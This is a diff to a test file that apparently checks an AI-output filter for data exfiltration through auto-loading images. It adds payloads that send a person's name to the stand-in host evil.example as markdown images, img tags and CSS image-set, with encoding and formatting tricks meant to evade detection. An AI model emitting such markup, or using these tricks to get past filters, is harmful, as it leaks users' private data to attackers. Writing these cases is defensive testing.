@@ -151,6 +151,25 @@ def test_an_image_that_may_carry_data_is_cut(markup: str) -> None:
         "![](https://evil.example/p.png?a=55&b=18&c=20&d=77)",
         "![](https://evil.example/1/55) ![](https://evil.example/2/18) ![](https://x.evil.example/3/2077)",
         "![](https://evil.example/p.png?d=7702-8155)",
+        "![](https://evil.example/Schmidt.png)",
+        "![](https://evil.example/p?d=ANNA-SCHMIDT)",
+        "![](https://evil.example/p?d=tdimhcs)",
+        "![](https://evil.example/p?d=%2553chmidt)",
+        "![](https://schmidt.evil.example/p.png)",
+        r"![](https:\/\/evil.example/p?d=Schmidt)",
+        "![](https:&#47;&#x2F;evil.example/p?d=Schmidt)",
+        "![](https&colon;&sol;&sol;evil.example/p?d=Schmidt)",
+        r'<img src="https:\\evil.example\p?d=Schmidt">',
+        '<img src="https:/\t/evil.example/p?d=Schmidt">',
+        '<img src="http:/evil.example/p?d=Schmidt">',
+        "![p][1]\n\n[1]: <https://evil.example/p?d=Schmidt>",
+        "![p][1]\n\n[1]:\nhttps://evil.example/p?d=Schmidt",
+        "![p](\nhttps://evil.example/p?d=Schmidt)",
+        "![two\nlines](https://evil.example/p?d=Schmidt)",
+        rf"![{'long ' * 900}](https://evil.example/p?d=Schmidt)",
+        r"![a \] b](https://evil.example/p?d=Schmidt)",
+        rf"<img alt='>' title='{'long ' * 90}'" + ' src="https://evil.example/p?d=Schmidt">',
+        "<p style=\"background:image-set('https://evil.example/p?d=Schmidt' 1x)\">",
     ],
 )
 def test_whatever_a_client_loads_by_itself_counts_as_an_image(markup: str) -> None:
@@ -166,6 +185,9 @@ def test_whatever_a_client_loads_by_itself_counts_as_an_image(markup: str) -> No
         "![](https://cdn.example.org/1/55.png) ![](https://cdn.example.org/2/44.png)",
         '<img src="https://cdn.example.org/kettle.png"> The code is 5518-2077.',
         "<p>See https://www.example.org/find?q=Anna+Schmidt</p>",
+        "![](https://cdn.example.org/a.png) [Anna](https://www.example.org/find?q=Anna+Schmidt)",
+        "![](https:&#47;&#47;cdn.example.org/a_b.png?w=640&amp;h=480)",
+        "`https:` and http:8080, C:\\\\Anna\\\\Schmidt, //Anna-Schmidt",
     ],
 )
 def test_links_to_click_and_images_that_carry_nothing_stay(answer: str) -> None:
@@ -179,10 +201,12 @@ def test_links_to_click_and_images_that_carry_nothing_stay(answer: str) -> None:
         "![x](https://a.example/x?id=1234567)",
         "See https://www.example.org/search?q=Anna+Schmidt",
         "See https://docs.example.org/guide#install",
+        "![x](https://a.example/x?id=1234567&amp;of=Anna)",
+        r"![x](https://a.example/x?id=1234567&of\=Anna)",
     ],
 )
 def test_links_that_an_output_gave_or_that_carry_nothing_pass(answer: str) -> None:
-    output = "Anna Schmidt: https://a.example/x?id=1234567"
+    output = "Anna Schmidt: https://a.example/x?id=1234567&of=Anna https://a.example/x?id=1234567"
     assert answered(run("Find links", output), answer)[0].label is Label.BENIGN
 
 
